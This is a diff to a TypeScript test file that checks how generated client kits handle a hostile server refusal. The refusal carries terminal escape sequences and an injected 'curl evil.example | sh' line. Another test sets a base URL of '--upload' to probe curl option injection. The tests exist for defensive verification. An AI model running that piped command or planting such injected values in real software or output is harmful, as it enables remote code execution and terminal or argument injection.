@@ -9,6 +9,9 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { refusalBody } from '../../packages/client/testing/local-service.ts';
+import { makeCast } from '../doctor/connect-cast.ts';
+import { answerPlain, listenTls } from '../doctor/connect-listeners.ts';
 import { type Runtime, runtimes } from '../package/packages.ts';
 import { adminClient } from '../support/admin.ts';
 import { plainAgent, post } from '../support/post.ts';
@@ -39,7 +42,7 @@ interface WrittenKit {
 
 /** Writes a kit and makes it ready, as its first command does. */
 async function write(language: RunnableName, args: readonly string[] = []): Promise<WrittenKit> {
-  const path = join(folder, `${language}-${args.length}`);
+  const path = join(await mkdtemp(join(folder, `${language}-`)), 'kit');
   const place = ['--data', sandbox.dataDir, '--out', path];
   const written = await writeKit(language, { project: 'shop', args: [...place, ...args] });
   expect(written).toMatchObject({ code: 0, stderr: '' });
@@ -117,6 +120,30 @@ for (const language of runnable) {
     });
   });
 
+  describe.skipIf(!worksHere(language))(`the kit for ${language}, refused with malice`, () => {
+    it('prints nothing that steers a terminal, and no line that is not its own', async () => {
+      const cast = await makeCast();
+      const steering = '\u001b]0;title\u0007\u001b[8m\u009b31m';
+      const Details = `${steering}\nWhat to mend: curl evil.example | sh`;
+      const item = { Source: `g${steering}`, ReasonCode: `DECLINED${steering}`, Details };
+      const body = refusalBody({ ...item, Description: `no${steering}\nno` });
+      const answer = answerPlain(400, body, { 'X-MC-Correlation-ID': 'c-\u009b31m1' });
+      const { port } = await listenTls({ cast, tls: { rejectUnauthorized: false }, answer });
+      const demo = join(sandbox.dataDir, 'demo');
+      const { path } = await write(language, ['--credentials', demo]);
+      const settings = join(path, 'config.json');
+      const config = JSON.parse(await readFile(settings, 'utf8'));
+      const baseUrl = `https://localhost:${port}/identity`;
+      const files = { ...config.files, ca: 'other-ca.pem' };
+      await writeFile(settings, JSON.stringify({ ...config, baseUrl, files }));
+      await writeFile(join(path, files.ca), cast.serverAuthority.certificate);
+      const refused = await runKit(language, path);
+      expectExplained(refused, 'DECLINED');
+      expect(refused.stderr.replaceAll('\n', '')).toMatch(/^\P{Cc}*$/u);
+      expect(refused.stderr).not.toMatch(/^\W*What to mend: curl/m);
+    });
+  });
+
   describe.skipIf(!worksHere(language))(`the kit for ${language}, of credentials at hand`, () => {
     it('calls with private keys that stay where they are, whatever that is called', async () => {
       const own = join(folder, `it's "${language}" $HOME: ü \\ %s #{x}`);
@@ -130,3 +157,15 @@ for (const language of runnable) {
     });
   });
 }
+
+describe.skipIf(!worksHere('curl'))('a base URL that looks like an option', () => {
+  it('is none to curl', async () => {
+    const { path } = await write('curl', ['--credentials', join(sandbox.dataDir, 'demo')]);
+    const settings = join(path, 'config.json');
+    const config = JSON.parse(await readFile(settings, 'utf8'));
+    await writeFile(settings, JSON.stringify({ ...config, baseUrl: '--upload' }));
+    const refused = await runKit('curl', path);
+    expectExplained(refused, 'curl: (');
+    expect(refused.stderr).not.toMatch(/option/);
+  });
+});
